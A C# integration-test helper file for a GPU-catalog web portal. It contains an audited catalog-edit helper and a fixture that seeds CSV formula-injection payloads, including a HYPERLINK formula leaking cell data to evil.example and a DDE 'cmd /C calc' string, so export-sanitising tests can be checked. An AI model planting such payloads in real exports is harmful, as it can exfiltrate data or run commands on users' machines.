using FreeGpuPortal.Web.Auditing;
using FreeGpuPortal.Web.Catalog;
using FreeGpuPortal.Web.Catalog.Editing;
using FreeGpuPortal.Web.Data;

using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace FreeGpuPortal.IntegrationTests.Api;

/// <summary>Catalog changes an API test makes below the editor, with the history rows the audit guard asks for.</summary>
public static class CatalogEdits
{
    public static readonly Actor TestAdmin = new("test-admin-id", "admin@example.org");

    /// <summary>
    /// Changes the catalog through the app's own DbContext, recording each changed platform in the history in the
    /// same save (with a new concurrency stamp), as an admin edit would; the app's audit guard refuses it otherwise.
    /// </summary>
    public static async Task EditCatalogAsync(this PortalHost portal, Func<CatalogDbContext, Task> edit)
    {
        var factory = portal.Services.GetRequiredService<IDbContextFactory<CatalogDbContext>>();
        await using var db = await factory.CreateDbContextAsync();
        await edit(db);
        db.ChangeTracker.DetectChanges();
        foreach (var platform in db.ChangeTracker.Entries<Platform>().Where(e => e.State == EntityState.Modified).Select(e => e.Entity).ToList())
        {
            platform.ConcurrencyStamp = Guid.NewGuid();
            db.CatalogChanges.Add(new CatalogChange
            {
                PlatformId = platform.Id,
                Kind = ChangeKind.Edit,
                ActorUserId = TestAdmin.UserId,
                ActorDisplayName = TestAdmin.DisplayName,
                AtUtc = DateTime.UtcNow,
                Note = "Edited by an API test.",
                ConcurrencyStampAfter = platform.ConcurrencyStamp,
            });
        }

        await db.SaveChangesAsync();
    }
}

/// <summary>
/// A <see cref="PortalHostOptions.Lenient"/> host whose seed catalog has formula-injection attempts saved into it
/// through the editor at start-up: a vendor, a pro and a con that a spreadsheet would run as formulas if the CSV
/// passed them on unchanged.
/// </summary>
public sealed class FormulaInjectionPortal() : PortalHost(PortalHostOptions.Lenient with { Started = SaveHostileText })
{
    public const string HostileVendor = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")";
    public const string HostilePro = "+1+2";
    public const string HostileCon = "@SUM(1+1)*cmd|' /C calc'!A0";

    private static void SaveHostileText(IServiceProvider services)
    {
        var editor = services.GetRequiredService<CatalogEditor>();
        Edit(editor, "gradient", p => p.Vendor = HostileVendor);
        Edit(editor, "colab", p => p.Pros = [HostilePro, .. p.Pros]);
        Edit(editor, "kaggle", p => p.Cons = [HostileCon, .. p.Cons]);
    }

    private static void Edit(CatalogEditor editor, string slug, Action<PlatformEditModel> edit)
    {
        var model = editor.GetForEditAsync(slug).GetAwaiter().GetResult()!;
        edit(model);
        var result = editor.UpdateAsync(new PlatformChangeRequest(model, ChangeEvidence.None, CatalogEdits.TestAdmin)).GetAwaiter().GetResult();
        if (result is not EditResult.Success)
        {
            throw new InvalidOperationException($"The hostile edit of {slug} was not saved: {result}");
        }
    }
}

public static class RepoPaths
{
    /// <summary>The repository root: the nearest folder above the test binaries holding the solution file.</summary>
    public static string Root { get; } = FindRoot();

    public static string Fixture(string relativePath) =>
        Path.Combine(Root, "tests", "fixtures", "hardware-reports", relativePath);

    private static string FindRoot()
    {
        for (var directory = new DirectoryInfo(AppContext.BaseDirectory); directory is not null; directory = directory.Parent)
        {
            if (File.Exists(Path.Combine(directory.FullName, "FreeGpuPortal.sln")))
            {
                return directory.FullName;
            }
        }

        throw new InvalidOperationException("FreeGpuPortal.sln not found above " + AppContext.BaseDirectory);
    }
}
